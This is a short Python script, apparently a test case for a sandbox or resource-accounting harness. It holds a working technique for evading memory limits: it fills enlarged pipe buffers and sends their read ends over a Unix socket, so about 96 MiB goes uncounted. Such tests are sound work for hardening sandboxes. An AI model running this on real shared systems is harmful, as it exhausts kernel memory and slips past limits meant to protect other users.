# /// attack
# title = "Sends full pipes into a socket and closes them: they count for nobody"
# moments = ["call"]
# ///
import fcntl
import os
import socket


def attack():
    near, far = socket.socketpair()
    near.setblocking(False)
    filled = 0
    while filled < 96 << 20:
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        fcntl.fcntl(writer, 1031, 1 << 20)
        filled += os.write(writer, bytes(1 << 20))
        socket.send_fds(near, [b"x"], [reader])
        os.close(reader)
        os.close(writer)
    return f"{filled >> 20} MiB"
